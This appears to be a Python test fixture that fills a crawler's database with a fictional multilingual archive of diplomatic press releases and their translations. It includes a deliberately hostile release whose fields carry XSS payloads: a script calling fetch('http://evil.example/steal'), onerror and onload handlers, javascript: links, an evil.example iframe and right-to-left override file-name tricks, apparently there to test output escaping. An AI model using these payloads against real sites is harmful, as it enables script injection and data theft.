"""A made-up archive for the desk: statements in five languages, edited, withdrawn, uncertain, hostile.

All texts are our own, and no person in them is real.
"""

# ruff: noqa: E501 - texts and what is made of them stand as they are

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import insert

from crawler.frontier import RunRequest
from crawler.issuers import ISSUERS
from crawler.items import (
    Capture,
    Claim,
    ClaimKind,
    Held,
    KindOfRelease,
    KindOfSource,
    Origin,
    ReadBy,
    Release,
    Role,
    Standing,
)
from crawler.source import source_named
from pipelines.identify import release_id
from pipelines.link import link_releases
from pipelines.signature import signature_of
from storage.captures import WarcStore
from storage.database import Database
from storage.held import save_held
from storage.issuers import save_issuers
from storage.releases import save_releases
from storage.runs import claim, close
from storage.tables import LinkRow
from storage.unlinked import next_tickets, settle_tickets

NOW = datetime(2017, 3, 20, 9, 30, tzinfo=UTC)

WORKING_GROUP_ES = """La Secretaría de Relaciones Exteriores recibió hoy a la delegación que visita el país para revisar los avances de la agenda bilateral en materia de comercio, agua y migración.

Ambas partes acordaron crear un grupo de trabajo de 12 especialistas, que se reunirá por primera vez el 14 de marzo en la ciudad de Mérida y presentará sus propuestas antes del 30 de junio.

La subsecretaria Elvira Montesino informó que se destinarán 350 millones de pesos a la modernización de tres cruces fronterizos, y que las obras empezarán en abril.

Durante la reunión se revisó también el reparto de las aguas del río, conforme al tratado vigente, y se convino en intercambiar mediciones cada semana.

Al concluir el encuentro, la Secretaría subrayó la voluntad del gobierno de mantener un diálogo respetuoso y constante."""
WORKING_GROUP_EN = """The Ministry of Foreign Affairs today received the delegation visiting the country in order to review the progress of the bilateral agenda on trade, water and migration.

Both sides agreed to create a working group of 20 specialists, which will meet for the first time on March 14 in the city of Mérida and will present its proposals before June 30.

Undersecretary Elvira Montalvo reported that 350 million pesos [about 17 million dollars] will be spent on the modernization of three border crossings, and that the works will begin in April.

At the close of the meeting the Ministry underlined the will of the government to maintain a respectful and constant dialogue."""
FISHERIES_EN = """The two governments concluded today the fourth round of talks on fisheries in the northern waters, which began on 6 March 2017.

They agreed on a joint survey of 48 vessels and on sharing its results by 1 October 2017. Each side will pay half of the cost of 2.4 million pounds.

The head of the delegation said that the survey would give both coasts, for the first time, the same numbers to talk about.

A fifth round will be held in Aberdeen in November."""
FISHERIES_AR = """اختتمت الحكومتان اليوم الجولة الرابعة من المحادثات بشأن مصائد الأسماك في المياه الشمالية، والتي بدأت في 6 مارس 2017.

واتفق الجانبان على إجراء مسح مشترك يشمل 48 سفينة وعلى تبادل نتائجه بحلول 1 أكتوبر 2017. وسيدفع كل جانب نصف التكلفة البالغة 2.6 مليون جنيه.

وقالت رئيسة الوفد إن المسح سيمنح الساحلين، للمرة الأولى، الأرقام نفسها للحديث عنها.

وستعقد جولة خامسة في أبردين في نوفمبر."""
ARCTIC_FR = """La ministre des Affaires étrangères a annoncé aujourd'hui l'ouverture d'un bureau de liaison à Iqaluit, qui comptera neuf personnes.

Le bureau suivra les travaux du Conseil de l'Arctique et préparera la conférence des 21 et 22 septembre 2017.

Le gouvernement y consacrera 3,2 millions de dollars sur deux ans."""
ARCTIC_EN = """The Minister of Foreign Affairs today announced the opening of a liaison office in Iqaluit with a staff of nine.

The office will follow the work of the Arctic Council and prepare the conference of September 21 and 22, 2017.

The government will devote $3.2 million to it over two years."""
RAILWAY_ZH = """外交部发言人今天宣布，两国将就跨境铁路项目举行第三轮磋商，会议定于2017年4月18日在昆明举行。

双方将讨论全长414公里线路的施工安排，以及沿线12个车站的通关程序。

发言人表示，项目将为沿线居民带来便利，并促进贸易往来。"""
RAILWAY_EN = """The spokesperson of the Ministry of Foreign Affairs announced today that the two countries will hold a third round of consultations on the cross-border railway, to take place in Kunming on April 18, 2017.

The two sides will discuss the construction of the 414 kilometre line and the customs procedures at the 12 stations along it.

The spokesperson said that the project will bring convenience to the people along the line and promote trade."""
VISA_BEFORE = """From Monday, visitors may apply for a visa at any of our nine consulates. The fee is 60 dollars.

Applications by mail are not accepted. Applicants receive an answer within ten working days.

Questions are answered by telephone from 9 to 17 hours."""
VISA_NOW = """From Monday, visitors may apply for a visa at any of our eleven consulates. The fee is 60 dollars.

Applications by mail are not accepted. Applicants receive an answer within fifteen working days. Those who travel for medical treatment are served first.

Questions are answered by telephone from 9 to 17 hours."""
HARBOUR_ES = """El gobierno abrió hoy la licitación para ampliar el puerto de Guaymas, con un costo estimado de 1,900 millones de pesos.

Las empresas interesadas podrán presentar sus ofertas hasta el 2 de mayo de 2017."""
HARBOUR_EN = """The government today opened bidding for the extension of the port of Guaymas, at an estimated cost of 1.9 billion pesos.

Interested companies may submit their bids until May 2, 2017. A second call will follow."""
BRIDGE_ES = """La Secretaría informó que el puente internacional permanecerá cerrado por mantenimiento del 3 al 9 de abril.

El tránsito de carga será desviado por el cruce de Santa Teresa."""
BRIDGE_EN = """The international bridge remains closed for maintenance from April 3 to April 12, the ministry said.

Cargo traffic is diverted to the Santa Teresa crossing."""

EVIL = "<script>document.title='owned';fetch('http://evil.example/steal')</script>"
EVIL_TITLE = f"Statement {EVIL}<img src=x onerror=alert(1)> \u202egnp.exe\u2066 \"'><svg onload=alert(2)>"
EVIL_BODY = f"""{EVIL}

<iframe src="http://evil.example/frame"></iframe> and {{{{ 7 * 7 }}}} and {{% raw %}} \u202eesrever\u202c.

javascript:alert(3) <a href="javascript:alert(4)">here</a> <style>body{{display:none}}</style>"""


def release(
    source: str,
    slug: str,
    title: str,
    body: str,
    language: str,
    said_on: date,
    **changes: Any,  # noqa: ANN401
) -> Release:
    """A release as the pipelines would make it."""
    definition = source_named(source)
    mirror = definition.kind is KindOfSource.MIRROR
    issuers: tuple[str, ...] = changes.pop("issuers", definition.issuers)
    claims: Sequence[tuple[ClaimKind, str]] = changes.pop("claims", ())
    made = Release(
        id=release_id(source, None, slug),
        source=source,
        source_kind=definition.kind,
        url=f"https://{definition.hosts[0]}/{slug}",
        key=slug,
        native_id=None,
        language=language,
        kind=KindOfRelease.COMMUNIQUE,
        kind_raw=None,
        role_hint=Role.REPOST if mirror else Role.ORIGINAL,
        standing=None,
        title=title,
        summary=None,
        body=body,
        said_on=said_on,
        said_raw=None,
        posted_on=said_on,
        posted_at=None,
        posted_raw=None,
        timezone=definition.timezone,
        issuers=issuers,
        issuers_raw=(),
        folio=None,
        attribution=None,
        translator=None,
        insertions=0,
        claims=(Claim(ClaimKind.ADDRESS, f"{source}|{slug}"), *(Claim(*each) for each in claims)),
        attachments=(),
        withdrawn=None,
        withdrawn_at=None,
        modified=None,
        read_by=ReadBy.RULES,
        notes=(),
        content_digest="",
        signature=signature_of(body.split("\n\n"), language),
        captured_at=datetime.combine(said_on, datetime.min.time(), UTC) + timedelta(hours=20),
        origin=Origin.LIVE,
        capture=None,
    )
    made = replace(made, **changes)
    told = repr((made.title, made.body, made.said_on, made.posted_on, made.issuers, made.withdrawn))
    return replace(made, content_digest="sha256:" + hashlib.sha256(told.encode()).hexdigest())


def _translated(pair: str) -> dict[str, Any]:
    return {"claims": [(ClaimKind.SHARED_ID, f"made|{pair}")]}


@dataclass(frozen=True)
class Archive:
    """Releases by what they are for."""

    original: Release
    translation: Release
    english: Release
    arabic: Release
    french: Release
    chinese: Release
    edited: Release
    withdrawn: Release
    hostile: Release
    asked: tuple[tuple[Release, Release], ...]


def fill(database: Database, data: Path, filler: int = 150) -> Archive:
    """Fill an empty database and captures folder."""
    day = date(2017, 2, 23)
    original = release(
        "mx_sre", "prensa/grupo-de-trabajo", "México y la delegación visitante acuerdan un grupo de trabajo",
        WORKING_GROUP_ES, "es", day, issuers=("mx.sre", "mx.shcp"), folio="056", said_raw="23 de febrero de 2017",
    )  # fmt: skip
    translation = release(
        "mexidata", "id5001.html", "Mexico and visiting delegation agree on working group", WORKING_GROUP_EN,
        "en", day, issuers=("mx.sre", "mx.shcp"), role_hint=Role.TRANSLATION, standing=Standing.UNOFFICIAL,
        posted_on=date(2017, 2, 27), posted_raw="Monday, February 27, 2017", insertions=1,
        attribution="Joint SRE-SHCP Communique, Feb. 23, 2017; translation",
        claims=[(ClaimKind.ATTRIBUTION, "mx.shcp+mx.sre|2017-02-23")],
    )  # fmt: skip
    english = release(
        "uk_fcdo", "government/news/fisheries-talks", "Fourth round of fisheries talks concluded", FISHERIES_EN,
        "en", date(2017, 3, 9), **_translated("fish"),
    )  # fmt: skip
    arabic = release(
        "uk_fcdo", "government/news/fisheries-talks.ar", "اختتام الجولة الرابعة من محادثات مصائد الأسماك",
        FISHERIES_AR, "ar", date(2017, 3, 9), role_hint=Role.TRANSLATION, standing=Standing.OFFICIAL,
        **_translated("fish"),
    )  # fmt: skip
    french = release(
        "ca_gac", "fr/bureau-iqaluit", "Un bureau de liaison ouvrira à Iqaluit", ARCTIC_FR, "fr",
        date(2017, 3, 2), **_translated("arctic"),
    )  # fmt: skip
    arctic = release(
        "ca_gac", "en/office-iqaluit", "Liaison office to open in Iqaluit", ARCTIC_EN, "en", date(2017, 3, 2),
        **_translated("arctic"),
    )  # fmt: skip
    chinese = release(
        "cn_mfa", "zh/railway", "两国将在昆明举行铁路项目第三轮磋商", RAILWAY_ZH, "zh", date(2017, 3, 15),
        **_translated("rail"),
    )  # fmt: skip
    railway = release(
        "cn_mfa", "en/railway", "Third round of railway consultations to be held in Kunming", RAILWAY_EN, "en",
        date(2017, 3, 15), role_hint=Role.TRANSLATION, standing=Standing.OFFICIAL, **_translated("rail"),
    )  # fmt: skip
    before = release(
        "us_state", "visas", "New places to apply for a visa", VISA_BEFORE, "en", date(2017, 3, 10),
        kind=KindOfRelease.ADVISORY,
    )  # fmt: skip
    edited = replace(
        release(
            "us_state", "visas", "More places to apply for a visa", VISA_NOW, "en", date(2017, 3, 10),
            kind=KindOfRelease.ADVISORY,
        ),
        captured_at=datetime(2017, 3, 12, 8, tzinfo=UTC),
    )  # fmt: skip
    withdrawn = release(
        "uk_fcdo", "government/news/travel", "Travel advice for the northern coast",
        "The advice against travel to the northern coast is lifted from 1 February.", "en", date(2017, 1, 30),
        withdrawn="This page was withdrawn because it is out of date.",
        withdrawn_at=datetime(2017, 2, 20, tzinfo=UTC),
    )  # fmt: skip
    hostile = release(
        "mexidata", "evil?q=<script>alert(5)</script>", EVIL_TITLE, EVIL_BODY, "en", date(2017, 3, 1),
        issuers=("mx.sre",), attribution=EVIL, translator=EVIL, notes=(EVIL,), said_raw=EVIL,
        attachments=("https://mexidata.info/<img src=x onerror=alert(6)>.pdf",), folio="<b>7</b>",
    )  # fmt: skip
    asked = (
        (
            release("mx_shcp", "prensa/puerto", "Abre licitación para ampliar el puerto de Guaymas", HARBOUR_ES,
                    "es", date(2017, 3, 6)),
            release("mexidata", "id5007.html", "Bidding opens for port extension", HARBOUR_EN, "en",
                    date(2017, 3, 6), issuers=("mx.shcp",), role_hint=Role.TRANSLATION,
                    standing=Standing.UNOFFICIAL, posted_on=date(2017, 3, 8)),
        ),
        (
            release("mx_sre", "prensa/puente", "Cierre temporal del puente internacional", BRIDGE_ES, "es",
                    date(2017, 3, 17)),
            release("mexidata", "id5008.html", "Bridge closed for a week", BRIDGE_EN, "en", date(2017, 3, 18),
                    issuers=("mx.sre",), role_hint=Role.TRANSLATION, standing=Standing.UNOFFICIAL),
        ),
    )  # fmt: skip
    first = [
        original,
        translation,
        english,
        arabic,
        french,
        arctic,
        chinese,
        railway,
        before,
        withdrawn,
        hostile,
    ]
    first += [each for pair in asked for each in pair]
    captures = WarcStore(data / "captures", database, clock=lambda: NOW)
    runs = _runs(database)
    kept = [_captured(captures, runs["mx_sre"], each) for each in [*first, edited]]
    captures.close()
    by_id = {each.id: each for each in kept[:-1]}
    with database.write() as connection:
        save_issuers(connection, ISSUERS.values())
        save_releases(
            connection, runs["mx_sre"], [*by_id.values(), *_filler(filler)], NOW - timedelta(days=8)
        )
        save_releases(connection, runs["us_state"], [kept[-1]], NOW - timedelta(days=7))
        link_releases(connection, [*by_id], NOW - timedelta(days=7))
        for number, (one, other) in enumerate(asked):
            left, right = sorted((one.id, other.id))
            features = {"probability": 0.55 - number / 10, "doubt": "another release is nearly as close", "shares": {
                "coverage": 1.8, "figures shared": 0.6, "days apart": -0.4}}  # fmt: skip
            connection.execute(
                insert(LinkRow).values(
                    left_id=left, right_id=right, kind="translation", verdict="ask", score=0.4, features=features,
                    decided_by="machine", decided_at=NOW, model="made-1",
                )
            )  # fmt: skip
        save_held(connection, runs["mexidata"], _held(), NOW)
        # A crawl that a test starts is followed by the linker: what is here has been linked.
        settle_tickets(connection, next_tickets(connection, 10_000))
    return Archive(
        original=by_id[original.id],
        translation=by_id[translation.id],
        english=by_id[english.id],
        arabic=by_id[arabic.id],
        french=by_id[french.id],
        chinese=by_id[chinese.id],
        edited=kept[-1],
        withdrawn=by_id[withdrawn.id],
        hostile=by_id[hostile.id],
        asked=asked,
    )


def _captured(store: WarcStore, run: str, made: Release) -> Release:
    page = f"<!doctype html><title>{made.title}</title><div>{made.body}</div>".encode()
    headers = (("Content-Type", "text/html; charset=utf-8"),)
    assert made.captured_at is not None
    capture = Capture(made.url.replace(" ", "%20"), 200, headers, page, made.captured_at)
    kept = store.write(run, capture, page)
    return replace(made, capture=kept.place, capture_digest=kept.digest)


def _runs(database: Database) -> dict[str, str]:
    """Runs that ended, by source; one of them badly."""
    found: dict[str, str] = {}
    endings = {"mx_sre": "finished", "us_state": "finished", "mexidata": "finished", "uk_fcdo": "failed"}
    for number, (source, ending) in enumerate(endings.items()):
        started = NOW - timedelta(hours=5 + number)
        with database.write() as connection:
            run = claim(connection, RunRequest(source, "schedule"), started)
            assert isinstance(run, str)
            error = (
                None
                if ending == "finished"
                else "3 challenges in a row from www.gov.uk: the site takes us for a bot"
            )
            close(connection, run, ending, {}, error, started + timedelta(minutes=2))
        found[source] = run
    return found


_PLACES = (
    "Mérida",
    "Tijuana",
    "Cork",
    "Halifax",
    "Kunming",
    "Aberdeen",
    "Valencia",
    "Lyon",
    "Oaxaca",
    "Laredo",
)
_TOPICS = (
    (
        "mx_sre",
        "es",
        "Comunicado sobre la cooperación en {}",
        "Las autoridades de {} revisaron {} proyectos de agua.",
    ),
    ("uk_fcdo", "en", "Statement on cooperation with {}", "Officials in {} reviewed {} projects on trade."),
    (
        "ca_gac",
        "fr",
        "Déclaration sur la coopération avec {}",
        "Les autorités de {} ont examiné {} projets de pêche.",
    ),
    ("us_state", "en", "Readout of the meeting in {}", "The delegation visited {} and signed {} agreements."),
    ("mx_shcp", "es", "Informe de inversión en {}", "La inversión en {} creció en {} millones."),
    ("cn_mfa", "zh", "关于与{}合作的声明", "代表团访问{}，签署了{}项协议。"),
)


def _filler(number: int) -> list[Release]:
    """Many short statements, denser towards the end."""
    made = []
    for at in range(number):
        source, language, title, body = _TOPICS[at * 7 % len(_TOPICS)]
        place = _PLACES[at % len(_PLACES)]
        back = int(780 * (1 - (at / max(1, number)) ** 0.6) + at * 13 % 17)
        day = date(2017, 3, 14) - timedelta(days=back)
        made.append(
            release(source, f"more/{at}", title.format(place), body.format(place, at + 2), language, day,
                    kind=(KindOfRelease.COMMUNIQUE, KindOfRelease.STATEMENT, KindOfRelease.READOUT)[at % 3])
        )  # fmt: skip
    return made


def _held() -> list[Held]:
    return [
        Held("mexidata", "http://mexidata.info/id5044.html", "id5044.html", "normalize", "unknown issuer",
             "expected a body that the table of issuers knows, found 'Joint Commission of Samples'; add its name "
             "to crawler/bodies, or name it in the definition",
             {"title": "Commission meets in Laredo", "attribution": "Joint Commission of Samples, March 3, 2017"}),
        Held("mexidata", "http://mexidata.info/id5045.html", "id5045.html", "normalize", "unreadable date",
             "expected a day such as February 27, 2017, found 'last Tuesday'; it stays open until the page tells",
             {"title": f"A page without a day {EVIL}", "body": ["One.", "Two."]}),
    ]  # fmt: skip
